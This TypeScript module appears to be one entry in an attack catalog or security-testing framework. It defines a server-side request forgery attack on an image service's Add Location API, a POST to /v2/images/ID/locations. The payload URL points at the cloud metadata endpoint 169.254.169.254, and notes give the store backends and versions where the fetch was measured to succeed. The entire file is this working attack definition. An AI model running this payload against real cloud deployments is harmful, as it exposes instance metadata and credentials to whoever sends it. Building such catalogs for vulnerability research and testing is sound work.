// The Add Location API makes a store fetch from anywhere.
import { addedLocation } from '../mechanisms/added-location';
import { createLocationAttack } from '../mechanisms/location-attack';

export const attack = createLocationAttack({
  ...addedLocation,
  id: 'ssrf-location-api',
  title: 'Add Location API as an unfiltered fetch',
  words:
    'POST /v2/images/ID/locations with a URL: the http store, enabled by default and by every large deployment tool, reads the metadata service and hands the bytes to the member (measured on 2025.1). So does a swift store, which no import filter looks at: its locations name the keystone that says where the bytes are (run with glance_store 4.1, 4.9 and 5.7).',
  url: () => 'http://169.254.169.254/latest/meta-data/',
  leadsTo: '169.254.169.254',
});
